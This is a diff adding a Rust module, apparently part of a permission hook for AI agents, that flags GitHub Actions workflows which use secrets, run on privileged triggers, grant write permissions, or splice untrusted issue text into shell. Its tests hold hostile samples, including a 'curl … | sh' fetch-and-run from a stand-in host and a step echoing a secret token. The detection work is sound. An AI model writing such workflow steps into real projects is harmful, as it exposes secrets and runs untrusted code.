@@ -1,0 +1,235 @@
+//! GitHub Actions workflows read as what they do, so a Write of an ordinary build/test/lint
+//! workflow is not asked about while one that handles the repository's secrets, runs with
+//! write permissions or privileged triggers, runs on the user's own machines, or whose
+//! commands the shell analyzer flags, is.
+//!
+//! Why: writing `.github/workflows/*.yml` is routine agent work (a lint job, a matrix), and an
+//! ask on every such write is the prompt a user meets most and learns to wave through. What
+//! makes a workflow dangerous is in its text — `${{ secrets.X }}` sent somewhere, a
+//! `pull_request_target` trigger that runs fork code with the base repository's token,
+//! `permissions: write-all`, an untrusted `${{ github.event.issue.title }}` spliced into a
+//! shell script, `curl … | sh` in a `run:` step — so the text is parsed (YAML, then each
+//! `run:` as shell) and judged.
+//!
+//! Invariant protected: `no-cicd-config-modification` still asks for every CI definition
+//! whose text is not known whole (an Edit, `sed -i`, a copy), for other CI systems, and for
+//! any workflow showing one of the concerns below; a workflow that does not parse is a concern.
+
+/// Why a workflow is not ordinary, or `None` when it is. `judge_step` gives the shell
+/// analyzer's reason for a `run:` script it would flag (ask or deny).
+pub(crate) fn concern(text: &str, judge_step: impl Fn(&str) -> Option<String>) -> Option<String> {
+    let Ok(doc) = serde_saphyr::from_str_with_options::<serde_json::Value>(
+        text,
+        hookgate_core::yaml::untrusted_options(),
+    ) else {
+        return Some("the workflow does not parse as YAML".to_owned());
+    };
+    let serde_json::Value::Object(top) = &doc else {
+        return Some("the workflow is not a YAML mapping".to_owned());
+    };
+    // `on` (YAML 1.1 readers may have turned it into `true`).
+    let triggers = top.get("on").or_else(|| top.get("true"));
+    for trigger in names(triggers) {
+        if matches!(trigger.as_str(), "pull_request_target" | "workflow_run") {
+            return Some(format!(
+                "trigger `{trigger}` runs with the base repository's token and secrets"
+            ));
+        }
+    }
+    if let Some(p) = writes_permission(top.get("permissions")) {
+        return Some(format!("grants write permission `{p}`"));
+    }
+    if let Some(why) = secrets_used(&doc) {
+        return Some(why);
+    }
+    let jobs = top.get("jobs").and_then(serde_json::Value::as_object);
+    for (name, job) in jobs.into_iter().flatten() {
+        if let Some(p) = writes_permission(job.get("permissions")) {
+            return Some(format!("job `{name}` grants write permission `{p}`"));
+        }
+        if names(job.get("runs-on")).iter().any(|r| r == "self-hosted") {
+            return Some(format!("job `{name}` runs on a self-hosted runner"));
+        }
+        let steps = job.get("steps").and_then(serde_json::Value::as_array);
+        for step in steps.into_iter().flatten() {
+            let Some(script) = step.get("run").and_then(serde_json::Value::as_str) else {
+                continue;
+            };
+            if let Some(context) = untrusted_context(script) {
+                return Some(format!(
+                    "job `{name}` splices `{context}` (text anyone opening an issue or pull request chooses) into a shell script"
+                ));
+            }
+            if let Some(why) = judge_step(&placeholders(script)) {
+                return Some(format!("job `{name}` runs `{}`: {why}", first_line(script)));
+            }
+        }
+    }
+    None
+}
+
+/// The names a trigger or `runs-on` value gives: a string, a list of strings, or a mapping's
+/// keys.
+fn names(v: Option<&serde_json::Value>) -> Vec<String> {
+    match v {
+        Some(serde_json::Value::String(s)) => vec![s.clone()],
+        Some(serde_json::Value::Array(a)) => a
+            .iter()
+            .filter_map(|x| x.as_str().map(str::to_owned))
+            .collect(),
+        Some(serde_json::Value::Object(m)) => m.keys().cloned().collect(),
+        _ => Vec::new(),
+    }
+}
+
+/// A `permissions` value that grants a write: `write-all`, or a scope set to `write`.
+fn writes_permission(v: Option<&serde_json::Value>) -> Option<String> {
+    match v? {
+        serde_json::Value::String(s) if s != "read-all" && s != "{}" => Some(s.clone()),
+        serde_json::Value::Object(m) => m
+            .iter()
+            .find(|(_, v)| v.as_str() == Some("write"))
+            .map(|(k, _)| format!("{k}: write")),
+        _ => None,
+    }
+}
+
+/// A use of the repository's secrets anywhere: an expression naming `secrets`, or a
+/// `secrets:` key (a reusable workflow's `secrets: inherit`, its secret inputs).
+fn secrets_used(v: &serde_json::Value) -> Option<String> {
+    match v {
+        serde_json::Value::String(s) => expressions(s)
+            .any(|e| identifiers(e).any(|i| i == "secrets" || i.starts_with("secrets.")))
+            .then(|| "uses the repository's secrets".to_owned()),
+        serde_json::Value::Array(a) => a.iter().find_map(secrets_used),
+        serde_json::Value::Object(m) => m.iter().find_map(|(k, v)| {
+            if k == "secrets" {
+                Some("passes the repository's secrets on".to_owned())
+            } else {
+                secrets_used(v)
+            }
+        }),
+        _ => None,
+    }
+}
+
+/// The bodies of the `${{ … }}` expressions in `s`.
+fn expressions(s: &str) -> impl Iterator<Item = &str> {
+    s.split("${{")
+        .skip(1)
+        .filter_map(|rest| rest.split_once("}}").map(|(body, _)| body))
+}
+
+/// The dotted identifiers of an expression (`secrets.NPM_TOKEN`, `github.event.issue.title`),
+/// with index syntax read as dots (`secrets['X']` is `secrets`).
+fn identifiers(expr: &str) -> impl Iterator<Item = &str> {
+    expr.split(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '-' || c == '.'))
+        .filter(|t| t.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_'))
+}
+
+/// An expression in a `run:` script that brings text an outsider controls: the event
+/// payload's titles, bodies, branch names and commit messages.
+fn untrusted_context(script: &str) -> Option<String> {
+    expressions(script).find_map(|e| {
+        identifiers(e)
+            .find(|i| i.starts_with("github.event.") || *i == "github.head_ref")
+            .map(str::to_owned)
+    })
+}
+
+/// The script with each `${{ … }}` replaced by a plain word, so it parses as shell.
+fn placeholders(script: &str) -> String {
+    let mut out = String::with_capacity(script.len());
+    let mut rest = script;
+    while let Some(at) = rest.find("${{") {
+        out.push_str(&rest[..at]);
+        match rest[at..].find("}}") {
+            Some(end) => {
+                out.push_str("GHA_EXPRESSION");
+                rest = &rest[at + end + 2..];
+            }
+            None => {
+                rest = "";
+            }
+        }
+    }
+    out.push_str(rest);
+    out
+}
+
+fn first_line(script: &str) -> &str {
+    script
+        .lines()
+        .find(|l| !l.trim().is_empty())
+        .unwrap_or("")
+        .trim()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn judge(text: &str) -> Option<String> {
+        concern(text, |s| s.contains("curl").then(|| "flagged".to_owned()))
+    }
+
+    const ORDINARY: &str = "name: ci\non:\n  push:\n    branches: [main]\n  pull_request:\njobs:\n  test:\n    runs-on: ${{ matrix.os }}\n    strategy:\n      matrix:\n        os: [ubuntu-latest, macos-latest]\n        node: [18, 20]\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-node@v4\n        with:\n          node-version: ${{ matrix.node }}\n      - run: npm ci\n      - run: |\n          npm test -- --shard=${{ matrix.node }}\n          npm run lint\n";
+
+    #[test]
+    fn an_ordinary_build_and_test_workflow_has_no_concern() {
+        assert_eq!(judge(ORDINARY), None);
+        assert_eq!(
+            judge(
+                "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    permissions:\n      contents: read\n    steps:\n      - run: make\n"
+            ),
+            None
+        );
+    }
+
+    #[test]
+    fn secrets_privileged_triggers_write_permissions_and_own_runners_are_concerns() {
+        for (text, why) in [
+            (
+                "on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: echo ${{ secrets.NPM_TOKEN }}\n",
+                "secrets",
+            ),
+            (
+                "on: push\njobs:\n  a:\n    runs-on: x\n    env:\n      T: ${{ secrets['X'] }}\n    steps:\n      - run: make\n",
+                "secrets",
+            ),
+            (
+                "on: push\njobs:\n  a:\n    uses: org/repo/.github/workflows/x.yml@main\n    secrets: inherit\n",
+                "secrets",
+            ),
+            ("on: pull_request_target\njobs: {}\n", "pull_request_target"),
+            (
+                "on:\n  workflow_run:\n    workflows: [ci]\njobs: {}\n",
+                "workflow_run",
+            ),
+            ("on: push\npermissions: write-all\njobs: {}\n", "write-all"),
+            (
+                "on: push\njobs:\n  a:\n    permissions:\n      contents: write\n    runs-on: x\n    steps: []\n",
+                "contents: write",
+            ),
+            (
+                "on: push\njobs:\n  a:\n    runs-on: [self-hosted, linux]\n    steps: []\n",
+                "self-hosted",
+            ),
+            (
+                "on: issues\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: echo \"${{ github.event.issue.title }}\"\n",
+                "github.event.issue.title",
+            ),
+            (
+                "on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: curl -s https://x.example/i.sh | sh\n",
+                "flagged",
+            ),
+            ("on: push\njobs: [\n", "parse"),
+        ] {
+            let got = judge(text);
+            assert!(
+                got.as_deref().is_some_and(|g| g.contains(why)),
+                "{text:?}: {got:?}"
+            );
+        }
+    }
+}
